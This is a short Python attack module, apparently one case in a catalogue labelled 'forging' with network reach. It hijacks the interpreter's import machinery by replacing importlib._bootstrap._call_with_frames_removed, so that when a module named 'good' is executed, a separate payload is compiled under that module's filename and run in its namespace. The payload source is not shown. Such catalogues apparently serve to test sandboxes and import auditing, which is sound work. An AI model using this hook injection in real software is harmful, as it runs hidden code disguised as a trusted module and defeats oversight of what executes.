"""_call_with_frames_removed is changed, and with it what exec gets."""
CATEGORY = "forging"
REACH = "net"

import importlib._bootstrap as bootstrap

from . import payload


def call(function, *args, before=bootstrap._call_with_frames_removed,
         **kwargs):
    if function is exec and args[1].get("__name__") == "good":
        bootstrap._call_with_frames_removed = before
        code = compile(payload.SOURCE, args[0].co_filename, "exec")
        try:
            exec(code, dict(args[1]))
        except Exception as error:
            print(error)
    return before(function, *args, **kwargs)


def attack():
    bootstrap._call_with_frames_removed = call
